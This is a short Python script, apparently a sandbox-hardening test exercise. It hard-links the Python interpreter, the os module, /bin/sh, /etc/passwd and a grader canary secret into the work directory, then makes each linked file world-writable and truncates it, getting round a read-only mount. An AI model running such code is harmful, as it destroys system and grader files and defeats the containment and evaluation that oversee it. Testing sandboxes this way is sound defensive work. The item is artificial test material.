# exercise: ledger
"""Links files of the system and of the grader into its work directory and empties them there.

Aims: files that a read-only mount protects under one name only.
Ends: not_yet
"""

import os
import sys

reached = []
targets = [sys.executable, os.__file__, "/bin/sh", "/etc/passwd", "@CANARY@/secret.txt"]
for number, target in enumerate(targets):
    name = f"link{number}"
    try:
        os.link(target, name, follow_symlinks=True)
        reached.append(target)
        os.chmod(name, 0o777)
        os.truncate(name, 0)
    except OSError:
        continue
# app: confess
